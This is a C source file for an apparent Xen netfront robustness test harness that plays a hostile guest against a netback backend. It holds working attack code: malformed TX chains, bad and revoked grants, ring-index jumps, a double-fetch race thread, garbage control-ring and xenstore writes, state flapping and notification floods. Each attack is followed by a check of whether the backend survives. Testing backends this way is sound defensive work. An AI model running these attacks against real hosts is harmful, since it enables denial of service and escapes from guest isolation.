// SPDX-License-Identifier: GPL-2.0-only
/* The hostile frontend's attacks: see front_attacks.h. */
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "front_attacks.h"

#define BIT(s) (1u << (s))
#define CLOSED_OR_CLOSING (BIT(XenbusStateClosing) | BIT(XenbusStateClosed))

/* Good packets sent before an attack (the baseline must be answered) and
 * after it (is the queue still alive?). */
#define BASELINE_PKTS 4u

/* Default number of writes / notifications of the floods when --count is
 * not given: they also stop at --duration. */
#define FLOOD_DEFAULT_COUNT 100000u

static const char *variant_name(const struct hostile_opts *o)
{
	return hostile_attack_desc(o->attack)->variants[o->variant];
}

static void outcome(struct evil_front *f, const char *what)
{
	report_str(f->rep, "outcome", what);
}

/* Send @n good one-slot frames; wait for their answers. Returns how many
 * were answered OKAY. */
static unsigned long send_good(struct evil_front *f, unsigned int n, unsigned int wait_ms)
{
	unsigned long before = f->c.rsp_okay;
	struct hostile_tx_plan p;

	for (unsigned int i = 0; i < n; i++) {
		hostile_tx_plan(ATK_FRONT_SANITY, 0, &f->tx_data_ref[i % EF_TX_PAGES], 1,
				(uint16_t)(f->tx.req_prod_pvt % RING_SIZE(&f->tx)), &p);
		if (ef_tx_push(f, p.req, p.nr))
			break;
	}
	ef_tx_drain(f, wait_ms);
	return f->c.rsp_okay - before;
}

/* Connect honestly, post RX buffers, check the baseline. */
static int connect_baseline(struct evil_front *f, const struct hostile_opts *o, bool rx, bool ctrl)
{
	unsigned long ok;

	if (ef_share(f, ctrl) || ef_connect(f, o->wait_ms))
		return -1;
	if (rx)
		ef_rx_post(f, EF_RX_PAGES);
	ok = send_good(f, BASELINE_PKTS, o->wait_ms);
	report_int(f->rep, "baseline_okay", (long long)ok);
	report_action(f->rep, "baseline: %lu of %u good frames answered OKAY", ok, BASELINE_PKTS);
	return 0;
}

/* After the attack: the backend's state, and whether a good frame still
 * gets through (only asked while the backend says Connected). */
static void after(struct evil_front *f, const struct hostile_opts *o)
{
	int st = hx_read_state(f->xs, f->be_path);

	if (st == XenbusStateConnected && RING_FREE_REQUESTS(&f->tx) > 0) {
		unsigned long ok = send_good(f, 1, o->wait_ms);

		report_int(f->rep, "after_okay", (long long)ok);
		report_action(f->rep, "after: backend Connected, good frame answered %s", ok ? "OKAY" : "not OKAY");
		outcome(f, ok ? "alive" : "connected-but-silent");
	} else {
		report_action(f->rep, "after: backend state %d (%s)", st, hx_state_name(st));
		outcome(f, st == XenbusStateClosing || st == XenbusStateClosed ? "closed"
			: st < 0 ? "backend-gone" : "not-connected");
	}
}

/* ---- TX chain attacks: zero-len, page-cross, too-many-slots, tiny-slots,
 * bad-extra, bad-grant ---- */

static int tx_chain(struct evil_front *f, const struct hostile_opts *o)
{
	struct hostile_tx_plan p;
	uint32_t gref[3] = { f->tx_data_ref[0], f->tx_data_ref[1], f->tx_data_ref[2] };
	void *extra_page = NULL;
	uint32_t extra_ref = 0;
	const char *vn = variant_name(o);

	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	if (o->attack == ATK_BAD_GRANT && strcmp(vn, "invalid")) {
		/* revoked: a page of our own we unshare right after the notify;
		 * foreign: a page granted to ourselves, not to the backend. */
		uint32_t to = !strcmp(vn, "foreign") ? (uint32_t)f->self_domid : (uint32_t)f->be_domid;

		extra_page = xengntshr_share_pages(f->gs, to, 1, &extra_ref, 0);
		if (!extra_page) {
			report_action(f->rep, "share of the %s page failed: %s", vn, strerror(errno));
			return EF_EXIT_SETUP;
		}
		hostile_fill_frame(extra_page, 0, XVIF_PAGE_SIZE, 7);
		gref[0] = extra_ref;
	}
	hostile_tx_plan(o->attack, o->variant, gref, 3, (uint16_t)(f->tx.req_prod_pvt % RING_SIZE(&f->tx)), &p);
	report_str(f->rep, "plan", p.desc);
	report_int(f->rep, "plan_slots", p.nr);
	report_str(f->rep, "expect", p.grant_fails ? "error-response"
		   : p.expect == XVIF_TX_OK ? "okay" : p.expect == XVIF_TX_DROP ? "error-response" : "queue-broken");
	report_str(f->rep, "expect_reason", xvif_tx_reason_name(p.expect_reason));
	{
		unsigned long okay = f->c.rsp_okay, err = f->c.rsp_error, drop = f->c.rsp_dropped;

		if (ef_tx_push(f, p.req, p.nr)) {
			report_action(f->rep, "no room in the TX ring for %u slots", p.nr);
			return EF_EXIT_SETUP;
		}
		report_action(f->rep, "pushed %s (%u slots)", p.desc, p.nr);
		if (extra_page && !strcmp(vn, "revoked")) {
			int rc = xengntshr_unshare(f->gs, extra_page, 1);

			report_action(f->rep, "unshared the page right after the notify: rc %d", rc);
			extra_page = NULL;
		}
		ef_tx_drain(f, o->wait_ms);
		report_int(f->rep, "attack_okay", (long long)(f->c.rsp_okay - okay));
		report_int(f->rep, "attack_error", (long long)(f->c.rsp_error - err));
		report_int(f->rep, "attack_dropped", (long long)(f->c.rsp_dropped - drop));
	}
	if (extra_page)
		xengntshr_unshare(f->gs, extra_page, 1);
	after(f, o);
	return EF_EXIT_DONE;
}

/* ---- ring index attacks ---- */

static int req_prod_jump(struct evil_front *f, const struct hostile_opts *o)
{
	xvif_tx_sring_t *s;
	RING_IDX bad;
	int st;

	if (!strcmp(variant_name(o), "map")) {
		/* Before connecting: the backend maps a ring whose producer is
		 * already more than a ring ahead of where it starts. */
		if (ef_share(f, false))
			return EF_EXIT_SETUP;
		s = f->tx.sring;
		bad = 2 * RING_SIZE(&f->tx) + 3;
		s->req_prod = bad;
		xen_wmb();
		report_action(f->rep, "tx req_prod=%u before connect (ring size %u)", bad, RING_SIZE(&f->tx));
		if (ef_write_keys(f) || ef_set_state(f, XenbusStateConnected))
			return EF_EXIT_SETUP;
		st = ef_wait_state(f, BIT(XenbusStateConnected) | CLOSED_OR_CLOSING, o->wait_ms);
		report_action(f->rep, "backend went to %d (%s)", st, hx_state_name(st));
		ef_notify(f);
		ef_wait_state(f, CLOSED_OR_CLOSING, o->wait_ms);
		/* Whatever it did, its rsp_prod must not have run over the ring. */
		report_int(f->rep, "tx_rsp_prod", (long long)f->tx.sring->rsp_prod);
		after(f, o);
		return EF_EXIT_DONE;
	}
	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	s = f->tx.sring;
	bad = f->tx.req_prod_pvt + RING_SIZE(&f->tx) + 7;
	s->req_prod = bad;
	xen_wmb();
	ef_notify(f);
	report_action(f->rep, "tx req_prod jumped to %u (req_cons %u, ring %u)", bad, f->tx.req_prod_pvt,
		      RING_SIZE(&f->tx));
	st = ef_wait_state(f, CLOSED_OR_CLOSING, o->wait_ms);
	report_int(f->rep, "tx_rsp_prod", (long long)s->rsp_prod);
	/* Our own view: requests made up to req_prod_pvt only. */
	report_int(f->rep, "rsp_beyond_requests", (long long)(s->rsp_prod - f->tx.req_prod_pvt));
	report_action(f->rep, "backend state %d (%s)", st, hx_state_name(st));
	s->req_prod = f->tx.req_prod_pvt;   /* restore, then see if it still answers */
	after(f, o);
	return EF_EXIT_DONE;
}

static int req_prod_backwards(struct evil_front *f, const struct hostile_opts *o)
{
	int st;

	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	if (!strcmp(variant_name(o), "rx")) {
		RING_IDX back = f->rx.req_prod_pvt - 3;

		f->rx.sring->req_prod = back;
		xen_wmb();
		report_action(f->rep, "rx req_prod moved back from %u to %u", f->rx.req_prod_pvt, back);
	} else {
		RING_IDX back = f->tx.req_prod_pvt - 3;

		f->tx.sring->req_prod = back;
		xen_wmb();
		report_action(f->rep, "tx req_prod moved back from %u to %u (all answered)", f->tx.req_prod_pvt,
			      back);
	}
	ef_notify(f);
	st = ef_wait_state(f, CLOSED_OR_CLOSING, o->wait_ms);
	report_action(f->rep, "backend state %d (%s)", st, hx_state_name(st));
	report_int(f->rep, "tx_rsp_prod", (long long)f->tx.sring->rsp_prod);
	report_int(f->rep, "tx_req_prod_pvt", (long long)f->tx.req_prod_pvt);
	/* Put it back where it belongs before judging liveness. */
	f->tx.sring->req_prod = f->tx.req_prod_pvt;
	f->rx.sring->req_prod = f->rx.req_prod_pvt;
	xen_wmb();
	after(f, o);
	return EF_EXIT_DONE;
}

/* ---- double fetch ---- */

struct racer {
	_Atomic(xvif_tx_req_t *) target;    /* the slot being flipped, NULL: idle */
	xvif_tx_req_t good, bad;             /* its two versions (set before target) */
	_Atomic bool stop;
	unsigned long flips;
};

/* Rewrite the target slot between its good and bad versions as fast as
 * the CPU allows, field by field with volatile stores, as a second vCPU of
 * a hostile guest would. */
static void *racer_main(void *arg)
{
	struct racer *r = arg;

	while (!atomic_load(&r->stop)) {
		volatile xvif_tx_req_t *t = atomic_load(&r->target);

		if (!t)
			continue;
		t->size = r->bad.size;
		t->flags = r->bad.flags;
		t->offset = r->bad.offset;
		t->size = r->good.size;
		t->flags = r->good.flags;
		t->offset = r->good.offset;
		r->flips++;
	}
	return NULL;
}

static int double_fetch(struct evil_front *f, const struct hostile_opts *o)
{
	struct racer r = { 0 };
	pthread_t th;
	uint64_t end;
	unsigned long chains = 0;
	int st;

	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	atomic_store(&r.target, NULL);
	if (pthread_create(&th, NULL, racer_main, &r)) {
		report_action(f->rep, "pthread_create failed");
		return EF_EXIT_SETUP;
	}
	end = hx_now_ms() + o->duration_ms;
	while (hx_now_ms() < end) {
		xvif_tx_req_t good[HOSTILE_DF_SLOTS], bad[HOSTILE_DF_SLOTS];
		unsigned int k;
		RING_IDX at = f->tx.req_prod_pvt;

		if (hx_read_state(f->xs, f->be_path) != XenbusStateConnected)
			break;
		if (RING_FREE_REQUESTS(&f->tx) < HOSTILE_DF_SLOTS) {
			ef_poll_events(f, EF_POLL_MS);
			continue;
		}
		hostile_df_good(f->tx_data_ref, EF_TX_PAGES, (uint16_t)(at % RING_SIZE(&f->tx)), good);
		k = hostile_df_bad(o->variant, good, bad);
		atomic_store(&r.target, NULL);
		r.good = good[k];
		r.bad = bad[k];
		ef_tx_push(f, good, HOSTILE_DF_SLOTS);
		atomic_store(&r.target, RING_GET_REQUEST(&f->tx, at + k));
		chains++;
		ef_poll_events(f, 0);
	}
	atomic_store(&r.stop, true);
	pthread_join(th, NULL);
	/* Leave every slot in its good version: the racer may have stopped
	 * on either. The backend has consumed them or will see good ones. */
	report_int(f->rep, "chains", (long long)chains);
	report_int(f->rep, "flips", (long long)r.flips);
	report_action(f->rep, "%lu chains raced, %lu flips of slot fields", chains, r.flips);
	ef_tx_drain(f, o->wait_ms);
	st = hx_read_state(f->xs, f->be_path);
	report_action(f->rep, "backend state %d (%s)", st, hx_state_name(st));
	after(f, o);
	return EF_EXIT_DONE;
}

/* ---- control ring ---- */

static int ctrl_garbage(struct evil_front *f, const struct hostile_opts *o)
{
	struct hostile_ctrl_step steps[HOSTILE_CTRL_MAX];
	json_object *arr;
	unsigned int n, refused = 0, bad = 0;
	uint32_t page_ref;

	if (!f->be_ctrl_ring) {
		report_action(f->rep, "backend does not offer feature-ctrl-ring");
		outcome(f, "skipped");
		return EF_EXIT_SKIP;
	}
	if (connect_baseline(f, o, true, true))
		return EF_EXIT_SETUP;
	/* The last TX data page becomes the table page: all 0xFF. */
	memset(f->tx_data + (EF_TX_PAGES - 1) * XVIF_PAGE_SIZE, HOSTILE_CTRL_FILL, XVIF_PAGE_SIZE);
	page_ref = f->tx_data_ref[EF_TX_PAGES - 1];
	n = hostile_ctrl_plan(page_ref, steps, HOSTILE_CTRL_MAX);
	arr = json_object_new_array();
	for (unsigned int i = 0; i < n; i++) {
		json_object *e = json_object_new_object();
		uint64_t end = hx_now_ms() + o->wait_ms;
		int status = -1, notify;

		*RING_GET_REQUEST(&f->ctrl, f->ctrl.req_prod_pvt) = steps[i].req;
		f->ctrl.req_prod_pvt++;
		RING_PUSH_REQUESTS_AND_CHECK_NOTIFY(&f->ctrl, notify);
		(void)notify;
		xenevtchn_notify(f->xce, (evtchn_port_t)f->ctrl_port);
		while (hx_now_ms() < end) {
			RING_IDX prod = f->ctrl.sring->rsp_prod;

			xen_rmb();
			if (prod - f->ctrl.rsp_cons > f->ctrl.req_prod_pvt - f->ctrl.rsp_cons) {
				f->c.rsp_prod_overflow++;
				break;
			}
			if (prod != f->ctrl.rsp_cons) {
				xvif_ctrl_rsp_t rsp;

				RING_COPY_RESPONSE(&f->ctrl, f->ctrl.rsp_cons, &rsp);
				f->ctrl.rsp_cons = prod;
				status = (int)rsp.status;
				break;
			}
			ef_poll_events(f, EF_POLL_MS);
		}
		json_object_object_add(e, "desc", json_object_new_string(steps[i].desc));
		json_object_object_add(e, "expect_ok", json_object_new_boolean(steps[i].expect_ok));
		json_object_object_add(e, "status", json_object_new_int(status));
		json_object_array_add(arr, e);
		if (status < 0)
			break;
		if (!steps[i].expect_ok && status != XEN_NETIF_CTRL_STATUS_SUCCESS)
			refused++;
		if ((status == XEN_NETIF_CTRL_STATUS_SUCCESS) != steps[i].expect_ok)
			bad++;
	}
	report_obj(f->rep, "ctrl", arr);
	report_int(f->rep, "ctrl_refused", refused);
	report_int(f->rep, "ctrl_unexpected", bad);
	report_action(f->rep, "%u control requests: %u garbage refused, %u answers not as netif.h says", n,
		      refused, bad);
	after(f, o);
	return EF_EXIT_DONE;
}

/* ---- xenstore ---- */

static int xs_garbage(struct evil_front *f, const struct hostile_opts *o)
{
	struct hostile_xs_op ops[HOSTILE_XS_OPS_MAX];
	struct hostile_xs_legit l;
	enum hostile_xs_expect ex;
	char mac[64] = "", mtu[32] = "";
	bool had_mac, had_mtu;
	unsigned int n;
	int st;

	if (ef_share(f, false))
		return EF_EXIT_SETUP;
	l.tx_ref = f->tx_ref;
	l.rx_ref = f->rx_ref;
	l.evtchn = (uint32_t)f->port;
	had_mac = hx_read(f->xs, f->fe_path, "mac", mac, sizeof(mac)) >= 0;
	had_mtu = hx_read(f->xs, f->fe_path, "mtu", mtu, sizeof(mtu)) >= 0;
	n = hostile_xs_plan(o->variant, &l, ops, HOSTILE_XS_OPS_MAX, &ex);
	for (unsigned int i = 0; i < n; i++)
		hx_write(f->xs, f->fe_path, ops[i].key, ops[i].value);
	report_action(f->rep, "wrote %u keys, last %s=%s", n, ops[n - 1].key,
		      ops[n - 1].value ? ops[n - 1].value : "(removed)");
	report_str(f->rep, "expect", ex == HOSTILE_XS_ACCEPT ? "connect" : "refuse");
	ef_set_state(f, XenbusStateConnected);
	st = ef_wait_state(f, BIT(XenbusStateConnected) | CLOSED_OR_CLOSING, o->wait_ms);
	report_action(f->rep, "backend went to %d (%s)", st, hx_state_name(st));
	outcome(f, st == XenbusStateConnected ? "connected"
		: st == XenbusStateClosing || st == XenbusStateClosed ? "refused-closed" : "refused-stayed");
	report_int(f->rep, "backend_state_after_connect", st);
	ef_report_answer(f);
	/* Restore the directory for the next run: our extra keys go, the
	 * toolstack's mac/mtu come back. */
	ef_close(f, o->wait_ms);
	{
		struct xs_handle *xs = xs_open(0);

		if (xs) {
			static const char *const extra[] = { "multi-queue-num-queues", "queue-0", "queue-1",
							     "queue-2" };

			for (unsigned int i = 0; i < sizeof(extra) / sizeof(extra[0]); i++)
				hx_write(xs, f->fe_path, extra[i], NULL);
			if (had_mac)
				hx_write(xs, f->fe_path, "mac", mac);
			if (had_mtu)
				hx_write(xs, f->fe_path, "mtu", mtu);
			xs_close(xs);
		}
	}
	return EF_EXIT_DONE;
}

static int state_flap(struct evil_front *f, const struct hostile_opts *o)
{
	static const int cycle[] = { XenbusStateConnected, XenbusStateInitialising, XenbusStateInitialised,
				     XenbusStateConnected, XenbusStateClosing, XenbusStateConnected,
				     XenbusStateClosed, XenbusStateReconfiguring, XenbusStateReconfigured,
				     XenbusStateInitWait, XenbusStateConnected, XenbusStateUnknown };
	static const char *const unknown[] = { "0", "9", "255", "-1", "abc", "", "4294967300", "4 ", "04" };
	bool unk = !strcmp(variant_name(o), "unknown");
	unsigned int count = o->count ? o->count : 500;
	uint64_t end = hx_now_ms() + o->duration_ms;
	unsigned int i;
	int st;

	if (ef_share(f, false) || ef_write_keys(f))
		return EF_EXIT_SETUP;
	for (i = 0; i < count && hx_now_ms() < end; i++) {
		if (unk)
			hx_write(f->xs, f->fe_path, "state", unknown[i % (sizeof(unknown) / sizeof(unknown[0]))]);
		else
			ef_set_state(f, cycle[i % (sizeof(cycle) / sizeof(cycle[0]))]);
	}
	report_int(f->rep, "state_writes", i);
	report_action(f->rep, "%u state writes (%s)", i, unk ? "unknown values" : "cycling every state");
	/* Then settle: Closed, and see the backend follow. */
	ef_set_state(f, XenbusStateClosed);
	st = ef_wait_state(f, BIT(XenbusStateClosed) | BIT(XenbusStateInitWait), o->wait_ms);
	report_action(f->rep, "settled Closed: backend %d (%s)", st, hx_state_name(st));
	outcome(f, st < 0 ? "backend-gone" : "settled");
	ef_report_answer(f);
	return EF_EXIT_DONE;
}

static int xs_flood(struct evil_front *f, const struct hostile_opts *o)
{
	unsigned int count = o->count ? o->count : FLOOD_DEFAULT_COUNT;
	uint64_t start, end;
	unsigned int i, failed = 0;
	bool same = o->variant == 0;
	char key[48], val[16];

	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	start = hx_now_ms();
	end = start + o->duration_ms;
	for (i = 0; i < count && hx_now_ms() < end; i++) {
		hostile_xs_flood_key(o->variant, i, key, sizeof(key));
		snprintf(val, sizeof(val), "%u", same ? (unsigned int)XenbusStateConnected : i);
		if (hx_write(f->xs, f->fe_path, key, val))
			failed++;
	}
	report_int(f->rep, "xs_writes", i);
	report_int(f->rep, "xs_write_failures", failed);
	report_action(f->rep, "%u writes to %s/%s in %llu ms (%u refused by xenstored)", i, f->fe_path,
		      same ? "state" : "hostile-flood-*", (unsigned long long)(hx_now_ms() - start), failed);
	if (!same)
		for (unsigned int k = 0; k < i && k < 200; k++) {
			hostile_xs_flood_key(o->variant, k, key, sizeof(key));
			hx_write(f->xs, f->fe_path, key, NULL);
		}
	after(f, o);
	return EF_EXIT_DONE;
}

static int event_flood(struct evil_front *f, const struct hostile_opts *o)
{
	unsigned int count = o->count ? o->count : 10u * FLOOD_DEFAULT_COUNT;
	uint64_t start, end;
	unsigned long sent = f->c.notifies;
	unsigned int i;

	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	start = hx_now_ms();
	end = start + o->duration_ms;
	for (i = 0; i < count; i++) {
		ef_notify(f);
		if ((i & 1023) == 0 && hx_now_ms() >= end)
			break;
	}
	report_int(f->rep, "flood_notifies", (long long)(f->c.notifies - sent));
	report_action(f->rep, "%lu notifications in %llu ms", f->c.notifies - sent,
		      (unsigned long long)(hx_now_ms() - start));
	after(f, o);
	return EF_EXIT_DONE;
}

static int rx_starve(struct evil_front *f, const struct hostile_opts *o)
{
	uint64_t end;
	int st;

	if (connect_baseline(f, o, false, false))
		return EF_EXIT_SETUP;
	report_action(f->rep, "connected with no RX buffer posted; holding for %u ms", o->duration_ms);
	end = hx_now_ms() + o->duration_ms;
	while (hx_now_ms() < end)
		ef_poll_events(f, EF_POLL_MS);
	st = hx_read_state(f->xs, f->be_path);
	report_action(f->rep, "backend state %d (%s) after starving", st, hx_state_name(st));
	/* Now post buffers: what does the backend still deliver? */
	ef_rx_post(f, EF_RX_PAGES);
	end = hx_now_ms() + o->wait_ms;
	while (hx_now_ms() < end)
		ef_poll_events(f, EF_POLL_MS);
	report_int(f->rep, "rx_after_post", (long long)f->c.rx_rsp);
	after(f, o);
	return EF_EXIT_DONE;
}

static int vanish(struct evil_front *f, const struct hostile_opts *o)
{
	uint64_t end;

	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	end = hx_now_ms() + o->duration_ms;
	while (hx_now_ms() < end) {
		struct hostile_tx_plan p;

		hostile_tx_plan(ATK_FRONT_SANITY, 0, f->tx_data_ref, EF_TX_PAGES,
				(uint16_t)(f->tx.req_prod_pvt % RING_SIZE(&f->tx)), &p);
		if (ef_tx_push(f, p.req, p.nr))
			ef_poll_events(f, 1);
	}
	/* Mid-transfer: requests are in flight. Report, then die without
	 * closing anything: the kernel releases our grants and ports. */
	ef_tx_collect(f);
	report_int(f->rep, "in_flight_at_exit", (long long)(f->tx.req_prod_pvt - f->tx.rsp_cons));
	report_action(f->rep, "exiting with %u TX requests in flight, no cleanup",
		      f->tx.req_prod_pvt - f->tx.rsp_cons);
	outcome(f, "vanished");
	ef_report_answer(f);
	report_emit(f->rep);
	_exit(EF_EXIT_DONE);
}

static int sanity(struct evil_front *f, const struct hostile_opts *o)
{
	if (connect_baseline(f, o, true, false))
		return EF_EXIT_SETUP;
	after(f, o);
	return EF_EXIT_DONE;
}

int fa_run(struct evil_front *f, const struct hostile_opts *o)
{
	switch (o->attack) {
	case ATK_ZERO_LEN:
	case ATK_PAGE_CROSS:
	case ATK_TOO_MANY_SLOTS:
	case ATK_TINY_SLOTS:
	case ATK_BAD_EXTRA:
	case ATK_BAD_GRANT:
		return tx_chain(f, o);
	case ATK_REQ_PROD_JUMP: return req_prod_jump(f, o);
	case ATK_REQ_PROD_BACKWARDS: return req_prod_backwards(f, o);
	case ATK_DOUBLE_FETCH: return double_fetch(f, o);
	case ATK_CTRL_GARBAGE: return ctrl_garbage(f, o);
	case ATK_XS_GARBAGE: return xs_garbage(f, o);
	case ATK_STATE_FLAP: return state_flap(f, o);
	case ATK_XS_FLOOD: return xs_flood(f, o);
	case ATK_EVENT_FLOOD: return event_flood(f, o);
	case ATK_RX_STARVE: return rx_starve(f, o);
	case ATK_VANISH: return vanish(f, o);
	case ATK_FRONT_SANITY: return sanity(f, o);
	default:
		report_action(f->rep, "attack %d is not a frontend attack", o->attack);
		return EF_EXIT_USAGE;
	}
}
